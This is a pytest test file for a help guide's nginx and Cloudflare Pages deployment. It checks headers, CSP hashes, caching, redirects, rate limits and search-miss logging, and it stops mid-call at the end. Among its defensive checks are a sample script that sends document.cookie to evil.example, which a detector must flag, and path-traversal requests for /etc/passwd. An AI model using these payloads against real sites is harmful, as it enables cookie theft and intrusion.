"""The production setup: real nginx (Debian's) on 127.0.0.1 with the rendered configuration, and
the same site on an edge host: Cloudflare's local Pages runtime (wrangler, workerd) serving the
upload `make edge` writes, its _headers and _redirects. The tests of headers, errors, redirects
and the CSP in the browser run against both (the `host` fixture)."""

from __future__ import annotations

import concurrent.futures
import gzip
import http.client
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from conftest import PAGES, ROOT, free_port, run_mkdocs_build, start_nginx
from guide.common import serve_static
from guide.content import inline_scripts, template_scripts, theme_template_dirs, unrecognised_scripts
from guide.editions.deploy_config import (IMMUTABLE, SECURITY_HEADERS, check_edge_limits, content_security_policy,
                           edge_headers, edge_redirects, nginx_redirects, render, render_logrotate, write_edge)
from guide.editions import serve_edge
from guide.manifest import manifest_path, read_manifest
from guide.tools.search_quality import type_query

NGINX = Path("/usr/sbin/nginx")
# A moved page, so that both servers show a redirect (mkdocs.yml moves none today), as the build
# manifest lists one (tests/test_links.py checks that the build writes it so).
MOVED = {"source": "old-risk.md", "from": "old-risk/", "target": "risk.md", "to": "risk/"}


def with_a_moved_page(site: Path) -> dict:
    """The site's build manifest, with one page moved."""
    manifest = read_manifest(site)
    assert manifest["redirects"] == []
    return dict(manifest, redirects=[MOVED])


@pytest.fixture(scope="session")
def prefix(manifest) -> str:
    return manifest["prefix"]


@pytest.fixture(scope="session")
def nginx(site, prefix):
    """nginx serving the built site at http://127.0.0.1:<port><prefix>, stopped after the session."""
    if not NGINX.exists():
        pytest.fail(f"{NGINX} not found: `make test` installs Debian's nginx package")
    # A world-readable copy, outside pytest's private temp folder: nginx's workers run as an
    # unprivileged user and must reach it.
    base = Path(tempfile.mkdtemp(prefix="guide-nginx-"))
    os.chmod(base, 0o755)
    docroot = base / "www"
    shutil.copytree(site, docroot / prefix.strip("/"))
    for path in [docroot, *docroot.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    (docroot / prefix.strip("/") / ".secret").write_text("not for the web", encoding="utf-8")
    (base / "outside.txt").write_text("not for the web", encoding="utf-8")
    runtime = base / "run"
    runtime.mkdir()
    port = free_port()
    config = base / "nginx.conf"
    user = "www-data" if os.geteuid() == 0 else None
    config.write_text(render(with_a_moved_page(site), f"127.0.0.1:{port}", docroot, runtime, user), encoding="utf-8")
    check = subprocess.run([str(NGINX), "-t", "-c", str(config), "-p", str(runtime)], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    process = start_nginx(config, runtime, port)
    yield {"name": "nginx", "port": port, "base": f"http://127.0.0.1:{port}{prefix}", "prefix": prefix,
           "runtime": runtime, "docroot": docroot, "misses": runtime / "search-misses.log", "site": site,
           "feedback": runtime / "feedback.log"}
    process.terminate()
    process.wait(timeout=20)
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="session")
def edge(tmp_path_factory, prefix):
    """Cloudflare's local Pages runtime serving the edge edition (mkdocs.edge.yml: no search-miss
    reports) as `make edge` lays it out, at http://127.0.0.1:<port><prefix>."""
    if not serve_edge.NODE.exists():
        pytest.fail(f"{serve_edge.NODE} not found: `make test` installs it from deploy/edge/package-lock.json")
    work = tmp_path_factory.mktemp("edge")
    built = work / "site"
    result = run_mkdocs_build(ROOT, built, config="mkdocs.edge.yml")
    assert result.returncode == 0, result.stdout + result.stderr
    upload = work / "upload"
    write_edge(built, upload, with_a_moved_page(built))
    port = free_port()
    log = (work / "wrangler.log").open("w")
    process = subprocess.Popen(serve_edge.command(upload, "127.0.0.1", port, work / "state"), cwd=work,
                               env=serve_edge.environment(work / "settings"), stdout=log, stderr=subprocess.STDOUT)
    deadline = time.monotonic() + 90
    while True:
        try:
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
            connection.request("GET", prefix)
            if connection.getresponse().status == 200:
                break
        except OSError:
            pass
        if time.monotonic() > deadline or process.poll() is not None:
            process.kill()
            pytest.fail("the edge runtime did not start:\n" + (work / "wrangler.log").read_text(encoding="utf-8")[-3000:])
        time.sleep(0.5)
    yield {"name": "edge", "port": port, "base": f"http://127.0.0.1:{port}{prefix}", "prefix": prefix,
           "site": built, "upload": upload, "log": work / "wrangler.log"}
    process.terminate()
    try:
        process.wait(timeout=20)
    except subprocess.TimeoutExpired:
        process.kill()
    log.close()


@pytest.fixture(params=["nginx", "edge"])
def host(request):
    """Each server in turn: nginx, and the edge runtime with the files `make edge` writes."""
    return request.getfixturevalue(request.param)


def revalidates(cache_control: str | None) -> bool:
    """A reply a browser or CDN must check again before reuse: nginx says no-cache, an edge host's
    default says max-age=0 with must-revalidate."""
    value = cache_control or ""
    return value == "no-cache" or ("max-age=0" in value and "must-revalidate" in value)


def request(nginx, path: str, method: str = "GET", headers: dict | None = None):
    connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10)
    connection.putrequest(method, path, skip_accept_encoding=True)
    for name, value in (headers or {}).items():
        connection.putheader(name, value)
    connection.endheaders()
    response = connection.getresponse()
    body = response.read()
    connection.close()
    return response, body


# --- configuration, without a server ------------------------------------------------------

def test_the_manifests_moved_pages_become_permanent_redirects():
    moved = [{"source": "recommendations.md", "from": "recommendations/", "target": "advice.md", "to": "advice/"},
             {"source": "old/index.md", "from": "old/", "target": "risk.md#plan", "to": "risk/#plan"}]
    rules = nginx_redirects(moved, "/guide/")
    assert "location = /guide/recommendations/ {\n                return 301 /guide/advice/;" in rules
    assert "location = /guide/recommendations {" in rules
    assert "return 301 /guide/risk/#plan;" in rules


def test_inline_script_hashes_skip_data_blocks_and_external_scripts():
    html = ('<script>var a=1</script><script src="x.js"></script>'
            '<script type="application/json">{"a":1}</script><script type="text/javascript">b()</script>')
    assert inline_scripts(html) == ["var a=1", "b()"]


def test_only_the_theme_templates_scripts_are_recognised(site):
    """Every inline script of the built site is one a template writes (its fields filled with a
    value, not code); a script of one's own, or a template's with code in a field, is not."""
    patterns = template_scripts(theme_template_dirs())
    assert patterns
    for page in site.rglob("*.html"):
        assert not unrecognised_scripts(page.read_text(encoding="utf-8"), patterns), page
    palette = next(s for page in site.rglob("*.html") for s in inline_scripts(page.read_text(encoding="utf-8"))
                   if s.startswith("__md_scope"))
    assert unrecognised_scripts(f"<script>{palette}</script>", patterns) == []
    forged = palette.replace('new URL("', 'new URL(alert(1)+"', 1)
    assert forged != palette and unrecognised_scripts(f"<script>{forged}</script>", patterns) == [forged]
    assert unrecognised_scripts("<script>fetch('//evil.example/'+document.cookie)</script>", patterns)
    # A template's script with more around it is not that script.
    padded = palette + ";fetch('//evil.example/')"
    assert unrecognised_scripts(f"<script>{padded}</script>", patterns) == [padded]


def test_the_server_config_refuses_a_site_with_a_script_of_its_own(site, tmp_path):
    import shutil as sh

    copy = tmp_path / "site"
    sh.copytree(site, copy)
    sh.copy2(manifest_path(site), manifest_path(copy))
    page = copy / "risk/index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</body>", "<script>track()</script></body>"), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "guide.editions.deploy_config", str(copy), str(tmp_path / "nginx.conf")],
                            capture_output=True, text=True)
    assert result.returncode != 0 and "risk/index.html" in result.stderr and "track()" in result.stderr, result.stderr


# --- headers -------------------------------------------------------------------------------

def test_security_headers_on_every_kind_of_response(host):
    bundle = next(host["site"].glob("assets/javascripts/bundle.*.min.js")).name
    for path in ["", "procedures/close-jiebei/", f"assets/javascripts/{bundle}", "assets/javascripts/search/index.js", "nope/"]:
        response, _ = request(host, host["prefix"] + path)
        csp = response.getheader("Content-Security-Policy")
        assert csp and "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, path
        assert "unsafe-inline" not in csp and "http" not in csp, "third-party or inline allowed"
        assert response.getheader("X-Content-Type-Options") == "nosniff"
        assert response.getheader("Referrer-Policy") == "strict-origin-when-cross-origin"
        assert response.getheader("X-Frame-Options") == "DENY"
        assert "camera=()" in response.getheader("Permissions-Policy")
        if host["name"] == "nginx":
            assert response.getheader("Server") == "nginx", "the version must not be shown"


def test_both_servers_send_the_same_csp_and_security_headers_on_every_page(nginx, edge):
    """The edge host's headers are nginx's, byte for byte, on every page and the 404."""
    for url in [*PAGES, "no-such-page/"]:
        ours, _ = request(nginx, nginx["prefix"] + url)
        theirs, _ = request(edge, edge["prefix"] + url)
        assert ours.status == theirs.status, url
        for name in ["Content-Security-Policy", *(name for name, _ in SECURITY_HEADERS)]:
            assert ours.getheader(name) == theirs.getheader(name), (url, name)
    # Each server's CSP allows exactly its own pages' inline scripts: the same templates, the same hashes.
    assert ours.getheader("Content-Security-Policy") == content_security_policy(read_manifest(edge["site"])["script_sources"])


def test_the_manifest_lists_exactly_the_inline_scripts_of_the_built_pages(site):
    """What the CSP allows (the build manifest's script sources) is the sha256 of each distinct
    inline script of the built pages, hashed here with hashlib."""
    import base64
    import hashlib

    found = set()
    for page in site.rglob("*.html"):
        for script in inline_scripts(page.read_text(encoding="utf-8")):
            found.add("'sha256-" + base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode() + "'")
    assert found and sorted(found) == read_manifest(site)["script_sources"]


def test_cache_headers_by_kind_on_both_servers(host):
    """The theme's hashed bundle is kept for a year; pages and the guide's own files revalidate."""
    bundle = next(host["site"].glob("assets/javascripts/bundle.*.min.js")).name
    response, _ = request(host, host["prefix"] + f"assets/javascripts/{bundle}")
    assert response.status == 200 and response.getheader("Cache-Control") == IMMUTABLE
    for path in ["", "procedures/close-jiebei/", "assets/javascripts/search/index.js", "assets/javascripts/guide.js",
                 "assets/stylesheets/extra.css"]:
        response, _ = request(host, host["prefix"] + path)
        assert response.status == 200 and revalidates(response.getheader("Cache-Control")), (path, response.getheader("Cache-Control"))
    response, _ = request(host, host["prefix"] + "no-such-page/")
    assert response.status == 404 and response.getheader("Cache-Control") == "no-store"


def test_cache_headers_by_kind(nginx, site):
    bundle = next(site.glob("assets/javascripts/bundle.*.min.js")).name
    cases = {
        "procedures/close-jiebei/": "no-cache",
        "": "no-cache",
        f"assets/javascripts/{bundle}": "public, max-age=31536000, immutable",
        "assets/javascripts/search/index.js": "no-cache",
        "assets/javascripts/search/dictionary.js": "no-cache",
        "assets/javascripts/search/engine.js": "no-cache",
        "assets/javascripts/guide.js": "no-cache",
        "assets/stylesheets/extra.css": "no-cache",
        "assets/favicon.svg": "no-cache",
    }
    for path, expected in cases.items():
        response, _ = request(nginx, nginx["prefix"] + path)
        assert response.status == 200, path
        assert response.getheader("Cache-Control") == expected, path


def test_content_types(nginx, site):
    bundle = next(site.glob("assets/javascripts/bundle.*.min.js")).name
    cases = {"": "text/html; charset=utf-8", f"assets/javascripts/{bundle}": "application/javascript; charset=utf-8",
             "assets/stylesheets/extra.css": "text/css; charset=utf-8",
             "assets/javascripts/search/index.js": "application/javascript; charset=utf-8",
             "assets/favicon.svg": "image/svg+xml"}
    for path, expected in cases.items():
        response, _ = request(nginx, nginx["prefix"] + path)
        assert response.getheader("Content-Type").startswith(expected), (path, response.getheader("Content-Type"))


def test_gzip_when_asked_and_plain_otherwise(nginx):
    path = nginx["prefix"] + "search/search_index.json"
    zipped, body = request(nginx, path, headers={"Accept-Encoding": "gzip"})
    assert zipped.getheader("Content-Encoding") == "gzip" and "Accept-Encoding" in zipped.getheader("Vary")
    plain, raw = request(nginx, path)
    assert plain.getheader("Content-Encoding") is None
    assert gzip.decompress(body) == raw and len(body) < len(raw) / 2


def test_the_rendered_header_keeps_the_templates_words():
    """The header comment names the placeholders; the values (the CSP above all) go below it."""
    from guide.editions.deploy_config import TEMPLATE, split_header

    text = render({"prefix": "/guide/", "script_sources": [], "redirects": []}, "127.0.0.1:1", Path("/srv"), Path("/run/x"), None)
    header, _ = split_header(TEMPLATE.read_text(encoding="utf-8"))
    assert text.startswith(header) and "@CSP@" in header and "@PREFIX@" in header
    assert "default-src" not in header and "/srv" not in header
    assert "default-src 'self'" in text


def test_a_guide_at_the_root_has_no_bare_prefix_redirect():
    text = render({"prefix": "/", "script_sources": [], "redirects": []}, "127.0.0.1:1", Path("/srv"), Path("/run/x"), None)
    assert "location =  {" not in text and "location = / {" not in text


# --- pages, errors, bad requests -----------------------------------------------------------

def test_the_bare_prefix_redirects_to_the_guide(host):
    response, _ = request(host, host["prefix"].rstrip("/"))
    assert response.status == 301 and response.getheader("Location") == host["prefix"]


def test_a_moved_page_redirects_to_its_new_address(host):
    for old in ["old-risk/", "old-risk"]:
        response, _ = request(host, host["prefix"] + old)
        assert response.status == 301 and response.getheader("Location") == host["prefix"] + "risk/", old


def test_a_folder_without_an_index_is_the_guides_404(nginx):
    for folder in ["assets/", "assets/javascripts/", "search/"]:
        response, body = request(nginx, nginx["prefix"] + folder)
        assert response.status == 404, (folder, response.status)
        assert "页面不存在" in body.decode("utf-8"), folder


def test_source_maps_are_not_published(host):
    maps = [path.relative_to(host["site"]).as_posix() for path in host["site"].rglob("*.map")]
    assert maps, "the theme ships a source map beside its bundle: this test needs one to ask for"
    for path in maps:
        response, _ = request(host, host["prefix"] + path)
        assert response.status == 404, path


def test_error_replies_are_never_cacheable(nginx, site):
    bundle = next(site.glob("assets/javascripts/bundle.*.min.js")).name
    cases = [
        (nginx["prefix"] + "nope/", {}, 404),
        (nginx["prefix"] + "nope.js", {}, 404),
        (nginx["prefix"] + "assets/javascripts/nope.12345678.min.js", {}, 404),
        (nginx["prefix"] + "%00", {}, 400),
        (nginx["prefix"] + f"assets/javascripts/{bundle}", {"Range": "bytes=99999999-"}, 416),
        (nginx["prefix"], {"Range": "bytes=99999999-"}, 416),
    ]
    for path, headers, status in cases:
        response, _ = request(nginx, path, headers=headers)
        assert response.status == status, (path, response.status)
        values = [value for name, value in response.getheaders() if name.lower() == "cache-control"]
        assert values and all(value == "no-store" for value in values), (path, status, values)


def test_missing_paths_do_not_fill_the_error_log(nginx):
    log = nginx["runtime"] / "error.log"
    before = log.stat().st_size if log.exists() else 0
    connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10)
    for i in range(2000):
        path = nginx["prefix"] + (f"missing-{i}.html" if i % 2 else f"assets/missing-{i}/")
        connection.request("GET", path)
        response = connection.getresponse()
        response.read()
        assert response.status == 404
    connection.close()
    grown = (log.stat().st_size if log.exists() else 0) - before
    assert grown < 10_000, f"error.log grew by {grown} bytes for 2,000 missing paths"



def test_bad_requests_a_stranger_can_loop_do_not_fill_the_error_log(nginx):
    """A folder's index asked for with a long query, and GETs announcing a body larger than
    allowed: refused, and error.log stays as it was (nginx logs both at `error` level)."""
    log = nginx["runtime"] / "error.log"
    before = log.stat().st_size if log.exists() else 0
    long_query = "x" * 3000
    statuses = set()
    for i in range(300):
        connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10)
        if i % 2:
            connection.request("GET", nginx["prefix"] + f"assets/?{long_query}{i}")
        else:
            connection.putrequest("GET", nginx["prefix"] + f"?big{i}")
            connection.putheader("Content-Length", "10000000")
            connection.endheaders()
        response = connection.getresponse()
        response.read()
        statuses.add(response.status)
        connection.close()
    assert statuses <= {404, 413}, statuses
    grown = (log.stat().st_size if log.exists() else 0) - before
    assert grown == 0, f"error.log grew by {grown} bytes: {log.read_text(errors='replace')[-500:]}"


def test_an_unreadable_404_page_still_answers_404(nginx):
    """A deploy that leaves 404.html unreadable to the server must not turn every missing page
    into a 403 (which would tell a stranger something exists)."""
    page = nginx["docroot"] / nginx["prefix"].strip("/") / "404.html"
    mode = page.stat().st_mode
    page.chmod(0o000)
    try:
        for path in ["missing.html", "assets/", "nope/"]:
            response, _ = request(nginx, nginx["prefix"] + path)
            assert response.status == 404, (path, response.status)
    finally:
        page.chmod(mode)
    response, body = request(nginx, nginx["prefix"] + "missing.html")
    assert response.status == 404 and "页面不存在" in body.decode("utf-8")


def test_gzip_behind_a_proxy(nginx, site):
    bundle = next(site.glob("assets/javascripts/bundle.*.min.js")).name
    response, body = request(nginx, nginx["prefix"] + f"assets/javascripts/{bundle}",
                             headers={"Accept-Encoding": "gzip", "Via": "1.1 cdn.example"})
    assert response.getheader("Content-Encoding") == "gzip" and "Accept-Encoding" in (response.getheader("Vary") or "")
    assert len(body) < len((site / f"assets/javascripts/{bundle}").read_bytes()) / 2


@pytest.mark.browser
def test_a_report_another_site_makes_the_browser_send_is_not_logged(browser, nginx, tmp_path):
    """A page on another origin (another port) with <img src=".../search-miss?q=...">: answered,
    never written; a report from the guide's own origin still is."""
    (tmp_path / "index.html").write_text(
        f'<!doctype html><img src="{nginx["base"]}search-miss?q=foreignpage&missing=foreignpage">', encoding="utf-8")
    httpd, other = serve_static(tmp_path)
    try:
        page = browser.new_page()
        with page.expect_response(lambda r: "search-miss" in r.url) as answered:
            page.goto(other)
        assert answered.value.status == 204
        page.close()
    finally:
        httpd.shutdown()
    response, _ = request(nginx, nginx["prefix"] + "search-miss?q=foreigncurl&missing=x",
                          headers={"Origin": "https://other.example"})
    assert response.status == 204
    time.sleep(1.0)
    response, _ = request(nginx, nginx["prefix"] + "search-miss?q=ownorigin&missing=x",
                          headers={"Sec-Fetch-Site": "same-origin", "Origin": f"http://127.0.0.1:{nginx['port']}"})
    assert response.status == 204
    deadline = time.monotonic() + 10
    while not any("ownorigin" in line for line in miss_lines(nginx)):
        assert time.monotonic() < deadline, "the guide's own report was not logged"
        time.sleep(0.1)
    assert not any("foreign" in line for line in miss_lines(nginx)), miss_lines(nginx)[-5:]


def test_directory_without_slash_redirects_to_it(nginx):
    response, _ = request(nginx, nginx["prefix"] + "procedures/close-jiebei")
    assert response.status == 301
    assert response.getheader("Location") == nginx["prefix"] + "procedures/close-jiebei/"


def test_missing_page_gets_the_guides_404(host):
    response, body = request(host, host["prefix"] + "procedures/close-huabei/")
    assert response.status == 404
    assert "页面不存在" in body.decode("utf-8")


@pytest.mark.parametrize("path", [
    "/guide/../", "/guide/../../etc/passwd", "/guide/%2e%2e/%2e%2e/etc/passwd", "/guide/..%2f..%2fetc%2fpasswd",
    "/guide/.secret", "/guide/assets/.hidden", "/outside.txt", "/etc/passwd", "/guide/%00",
])
def test_traversal_dotfiles_and_outside_paths_get_a_clean_4xx(nginx, path):
    response, body = request(nginx, path.replace("/guide/", nginx["prefix"], 1))
    assert 400 <= response.status < 500, (path, response.status)
    assert b"not for the web" not in body and b"root:" not in body


def test_very_long_url_is_refused(nginx):
    response, _ = request(nginx, nginx["prefix"] + "a" * 20_000)
    assert response.status in (400, 414)


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_only_get_and_head_are_allowed(nginx, method):
    response, _ = request(nginx, nginx["prefix"], method=method)
    assert response.status == 405
    assert response.getheader("Allow") == "GET, HEAD"


def test_get_replies_carry_no_allow_header(nginx):
    response, _ = request(nginx, nginx["prefix"])
    assert response.status == 200 and response.getheader("Allow") is None


def test_server_keeps_serving_after_bad_requests(nginx):
    for path in ["/guide/../", "/guide/" + "a" * 20_000, "/guide/.secret"]:
        request(nginx, path.replace("/guide/", nginx["prefix"], 1))
    response, _ = request(nginx, nginx["prefix"])
    assert response.status == 200


def test_outside_the_prefix_is_the_guides_404(host):
    for path in ["/", "/other/"]:
        response, body = request(host, path)
        assert response.status == 404 and "页面不存在" in body.decode("utf-8"), path


# --- in the browser, through nginx ---------------------------------------------------------

@pytest.mark.browser
def test_every_page_loads_without_csp_violations_or_failed_requests(browser, host):
    nginx = host
    context = browser.new_context()
    page = context.new_page()
    problems = []
    page.on("console", lambda m: problems.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("requestfailed", lambda r: problems.append(f"failed: {r.url}"))
    page.on("response", lambda r: problems.append(f"{r.status}: {r.url}") if r.status >= 400 else None)
    for url in PAGES:
        page.goto(nginx["base"] + url, wait_until="networkidle")
    # Pages that are not in the navigation run the same inline scripts under the same CSP: the
    # 404 page (its scripts are hashed too) and a folder answered with it.
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    for missing in ["no-such-page/", "assets/"]:
        response = page.goto(nginx["base"] + missing, wait_until="networkidle")
        assert response.status == 404
        problems[:] = [p for p in problems if not p.startswith("404: ")]
    assert not errors, errors
    assert page.evaluate("typeof __md_get") == "function", "the theme's inline scripts did not run"
    # The guide's search through nginx, with the CSP in force: a word read as the guide's, and
    # closing intent putting the procedure first.
    urls = type_query(page, "注销借呗")
    note = page.inner_text(".guide-search-note")
    context.close()
    assert not problems, "\n".join(problems)
    assert urls[0] == nginx["base"] + "procedures/close-jiebei/?h=%E5%85%B3%E9%97%AD%20%E5%80%9F%E5%91%97", urls[:3]
    assert note == "已将“注销”按“关闭”搜索"


# How staff type, from issue to issue: each must find its page through nginx, CSP in force.
TYPED = ["注销借呗", "怎么关掉网商贷", "刷脸", "验证码", "jiebei", "jb", "借唄", "網商貸", "借贝", "网上贷", "借呗怎么关"]


@pytest.mark.browser
def test_how_staff_type_finds_the_page_through_nginx(browser, nginx):
    from guide.tools.search_quality import judge, load_queries, site_path

    queries = {query["q"]: query for query in load_queries()}
    context = browser.new_context()
    page = context.new_page()
    page.goto(nginx["base"])
    wrong = []
    for typed in TYPED:
        pages = [site_path(url, nginx["base"]) for url in type_query(page, typed)]
        if judge(queries[typed], pages) != (True, True):
            wrong.append(f"{typed}: {pages[:5]}")
    context.close()
    assert not wrong, "\n".join(wrong)


@pytest.mark.browser
def test_questions_through_nginx_land_on_the_answering_section(browser, nginx):
    from test_search import check_sample

    context = browser.new_context()
    page = context.new_page()
    page.goto(nginx["base"])
    check_sample(page, nginx["base"])
    context.close()


@pytest.mark.browser
def test_step_link_and_slashless_url_through_nginx(browser, host):
    nginx = host
    context = browser.new_context()
    page = context.new_page()
    page.goto(nginx["base"] + "procedures/close-jiebei#close-account")
    assert page.url == nginx["base"] + "procedures/close-jiebei/#close-account"
    page.wait_for_timeout(300)
    box = page.locator("#close-account").bounding_box()
    assert 0 <= box["y"] < page.viewport_size["height"] / 2
    response = page.goto(nginx["base"] + "no-such-page/")
    assert response.status == 404 and page.locator("article h1").inner_text().startswith("页面不存在")
    context.close()


@pytest.mark.browser
def test_a_changed_guide_script_reaches_a_returning_reader(browser, nginx, site):
    """A reader who has the guide open, and the guide is deployed again: the next page load runs
    the new guide.js, not a cached copy."""
    served = Path(nginx["docroot"]) / nginx["prefix"].strip("/") / "assets" / "javascripts" / "guide.js"
    original = served.read_bytes()
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(nginx["base"] + "procedures/close-jiebei/", wait_until="networkidle")
        assert page.evaluate("window.__guideDeployed") is None
        time.sleep(1.1)   # a later modification time, as a deploy gives
        served.write_bytes(original + b"\nwindow.__guideDeployed = 2;\n")
        page.goto(nginx["base"] + "procedures/close-wangshangdai/", wait_until="networkidle")
        assert page.evaluate("window.__guideDeployed") == 2, "the returning reader ran a stale guide.js"
    finally:
        served.write_bytes(original)
        context.close()


# --- a bounded load run --------------------------------------------------------------------

def load_run(nginx, total: int = 20_000, connections: int = 50) -> dict:
    """`total` GET requests over `connections` keep-alive connections, across all pages."""
    paths = [nginx["prefix"] + url for url in PAGES]
    per_connection = total // connections

    def worker(offset: int) -> tuple[int, int]:
        ok = errors = 0
        connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10)
        for i in range(per_connection):
            try:
                connection.request("GET", paths[(offset + i) % len(paths)], headers={"Accept-Encoding": "gzip"})
                response = connection.getresponse()
                response.read()
                ok, errors = (ok + 1, errors) if response.status == 200 else (ok, errors + 1)
            except (OSError, http.client.HTTPException):
                errors += 1
                connection.close()
                connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10)
        connection.close()
        return ok, errors

    start = time.perf_counter()
    with concurrent.futures.ThreadPoolExecutor(max_workers=connections) as pool:
        results = list(pool.map(worker, range(connections)))
    seconds = time.perf_counter() - start
    ok = sum(r[0] for r in results)
    errors = sum(r[1] for r in results)
    return {"requests": ok + errors, "errors": errors, "seconds": seconds, "rps": (ok + errors) / seconds}


def test_load_run_has_no_errors(nginx):
    result = load_run(nginx)
    print(f"\nload: {result['requests']} requests, 50 connections, {result['seconds']:.1f} s, "
          f"{result['rps']:.0f} requests/s, {result['errors']} errors")
    assert result["requests"] == 20_000
    assert result["errors"] == 0


# --- search misses, logged on the guide's own server ---------------------------------------------

def log_lines(log: Path) -> list[str]:
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


def wait_for_log(log: Path, count: int, timeout: float = 10) -> list[str]:
    """The log's lines once it has `count` of them (or the timeout has passed)."""
    deadline = time.monotonic() + timeout
    while len(log_lines(log)) < count and time.monotonic() < deadline:
        time.sleep(0.1)
    return log_lines(log)


def miss_lines(nginx) -> list[str]:
    return log_lines(nginx["misses"])


def wait_for_lines(nginx, count: int, timeout: float = 10) -> list[str]:
    return wait_for_log(nginx["misses"], count, timeout)


@pytest.mark.browser
def test_a_search_that_leaves_words_out_is_logged_scrubbed_and_nothing_else(browser, nginx):
    from urllib.parse import unquote_plus

    context = browser.new_context()
    page = context.new_page()
    requests = []
    page.on("request", lambda request: requests.append(request) if "search-miss" in request.url else None)
    page.clock.install()                       # the reader's pauses, run on the page's clock, not waited for
    page.goto(nginx["base"])
    before = len(miss_lines(nginx))
    type_query(page, "关闭借呗")             # every word found: nothing is sent
    page.clock.run_for(2000)
    assert len(miss_lines(nginx)) == before and not requests
    type_query(page, "借呗手续费")
    page.clock.run_for(1800)                # the reader pauses: the query has ended
    type_query(page, "qwxzvk")
    page.clock.run_for(1800)
    type_query(page, "借呗13812345678手续费")
    page.keyboard.press("Escape")              # closing the search ends the query too
    page.clock.run_for(600)
    type_query(page, "借呗手续费")             # the same query again, same page view: not sent again
    page.clock.run_for(1800)
    lines = wait_for_lines(nginx, before + 3)[before:]
    headers = [request.all_headers() for request in requests]
    context.close()
    assert len(lines) == 3, lines
    fields = [line.split("\t") for line in lines]
    assert all(len(f) == 4 for f in fields), lines
    assert [unquote_plus(f[2]) for f in fields] == ["手续费", "qwxzvk", "手续费"]
    assert unquote_plus(fields[1][1]) == "qwxzvk" and fields[1][3] == "1"
    assert not re.search(r"\d", unquote_plus(fields[2][1])), "a digit reached the log"
    for sent in headers:
        assert "cookie" not in sent and "referer" not in sent, sent


def test_a_loop_of_miss_reports_is_limited(nginx):
    before = len(miss_lines(nginx))
    connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10)
    statuses = []
    for i in range(100):
        connection.request("GET", nginx["prefix"] + f"search-miss?q=loop{i}&missing=x")
        response = connection.getresponse()
        response.read()
        statuses.append(response.status)
    connection.close()
    written = len(miss_lines(nginx)) - before
    assert statuses.count(429) >= 50, statuses
    assert written == statuses.count(204) and written <= 40, written


def test_one_client_looping_leaves_the_others_reports_taken(nginx):
    """The limit is per reader as well as for the server: while one address loops (refused), a
    reader at another address is answered 204 and logged."""
    def loop(source: str, count: int) -> list[int]:
        connection = http.client.HTTPConnection("127.0.0.1", nginx["port"], timeout=10, source_address=(source, 0))
        statuses = []
        for i in range(count):
            connection.request("GET", nginx["prefix"] + f"search-miss?q=client{source}-{i}&missing=x")
            response = connection.getresponse()
            response.read()
            statuses.append(response.status)
        connection.close()
        return statuses

    time.sleep(1.0)
    looped = loop("127.0.0.3", 60)
    assert looped.count(429) >= 40, looped
    assert loop("127.0.0.4", 3) == [204, 204, 204]
    assert any("client127.0.0.4-0" in line for line in miss_lines(nginx))


def test_a_report_longer_than_the_page_sends_is_refused_and_not_logged(nginx):
    time.sleep(1.0)
    response, _ = request(nginx, nginx["prefix"] + "search-miss?q=" + "%E5%80%9F" * 300 + "&missing=x")
    assert response.status == 414
    assert not any(len(line) > 600 for line in miss_lines(nginx))
    # What the page can send at most (20 characters, each percent-encoded, and the words left
    # out) still passes.
    response, _ = request(nginx, nginx["prefix"] + "search-miss?q=" + "%E5%80%9F" * 20 + "&missing=" + "%E5%80%9F" * 20)
    assert response.status == 204


def test_the_miss_location_takes_get_only_and_answers_204(nginx):
    time.sleep(1.0)   # the limit lets a few through each second, after any loop above
    response, body = request(nginx, nginx["prefix"] + "search-miss?q=a&missing=a")
    assert response.status == 204 and body == b""
    assert response.getheader("Cache-Control") == "no-cache" and response.getheader("Set-Cookie") is None
    response, _ = request(nginx, nginx["prefix"] + "search-miss?q=a", method="POST")
    assert response.status == 405


@pytest.mark.browser
def test_the_search_report_reads_the_log_the_server_wrote(browser, nginx, site):
    page = browser.new_page()
    page.clock.install()   # the reader's pauses run on the page's clock, not waited for
    page.goto(nginx["base"])
    type_query(page, "借呗手续费费率")
    page.clock.run_for(1800)
    page.close()
    wait_for_lines(nginx, 1)
    result = subprocess.run([sys.executable, "-m", "guide.tools.search_report", str(nginx["misses"]), str(site)],
                            capture_output=True, text=True, check=True)
    assert re.search(r"^\| 手续费费率 \| \d+ \| \d{4}-\d{2}-\d{2} \| ", result.stdout, flags=re.M), result.stdout
    assert "data/synonyms.yml" in result.stdout


# --- the answer loop through nginx, its CSP in force (tests/test_search_ui.py runs it hosted) -

@pytest.mark.browser
def test_a_pasted_question_is_searched_through_nginx_and_never_logged_missing(browser, nginx):
    from test_search_ui import PASTED, PHONE, check_paste_and_ime, open_on_phone, results_shown

    context = browser.new_context(**PHONE)
    page = context.new_page()
    page.clock.install()   # the reader's pauses run on the page's clock, not waited for
    check_paste_and_ime(page, nginx["base"])
    before = miss_lines(nginx)
    open_on_phone(page, nginx["base"])
    page.keyboard.insert_text(PASTED)
    results_shown(page)
    page.clock.run_for(2000)           # past the pause that ends a query
    page.keyboard.press("Escape")          # closing the box ends it too
    page.clock.run_for(300)
    context.close()
    after = miss_lines(nginx)
    assert after == before, after[len(before):]


def test_the_server_config_says_when_the_log_folder_is_missing(site, tmp_path):
    result = subprocess.run([sys.executable, "-m", "guide.editions.deploy_config", str(site), str(tmp_path / "nginx.conf"),
